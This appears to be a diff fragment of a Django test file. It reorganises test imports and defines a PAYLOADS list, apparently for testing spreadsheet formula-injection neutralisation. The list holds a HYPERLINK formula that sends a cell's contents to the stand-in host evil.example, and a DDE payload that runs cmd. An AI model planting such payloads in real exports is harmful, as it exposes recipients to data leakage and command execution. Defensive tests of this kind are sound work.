@@ -16,10 +16,10 @@ from openpyxl import load_workbook
 from core.spreadsheets import FORMULA_START, neutralise, restore
 from practices.exchange import export_records
 from practices.models import PracticePage
+from tests.assessment.test_assessment import start
 from tests.factories import PracticePageFactory
-from tests.test_assessment import start
-from tests.test_calls import ANSWERS, make_call
-from tests.test_import_export import run_import
+from tests.participation.test_calls import ANSWERS, make_call
+from tests.practices.test_import_export import run_import
 
 pytestmark = pytest.mark.django_db
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
